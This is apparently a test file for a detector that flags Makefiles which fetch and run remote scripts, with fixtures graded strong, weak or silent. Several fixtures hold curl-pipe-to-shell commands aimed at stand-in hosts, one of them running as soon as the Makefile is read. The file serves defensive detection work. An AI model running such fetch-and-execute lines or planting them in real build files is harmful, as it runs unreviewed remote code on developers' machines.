import { testLures } from '../../../test/support/lures.ts';
import detector from './makefile-default-download.ts';

testLures(detector, {
  strong: {
    'on reading': { Makefile: 'V := $(shell curl -s https://fixture.invalid/v | sh)\n\nall:\n\techo\n' },
    'default target, bare address': {
      Makefile: '.PHONY: all\nall: deps\n\t@curl -s http://192.0.2.1/i | bash\n\tcc a.c\n',
    },
  },
  weak: { 'default target': { Makefile: 'setup:\n\tcurl -s https://downloads.fixture.example/i.sh | bash\n' } },
  silent: {
    'asked for by name': {
      Makefile: 'build:\n\tcc a.c\n\ninstall-tools:\n\tcurl -s https://downloads.fixture.example/i.sh | bash\n',
    },
    'documented installer': { Makefile: 'all:\n\tcurl -sSf https://sh.rustup.rs | sh -s -- -y\n' },
    'usual functions': { Makefile: 'V := $(shell git describe --tags)\nall:\n\tgo build ./...\n' },
  },
});
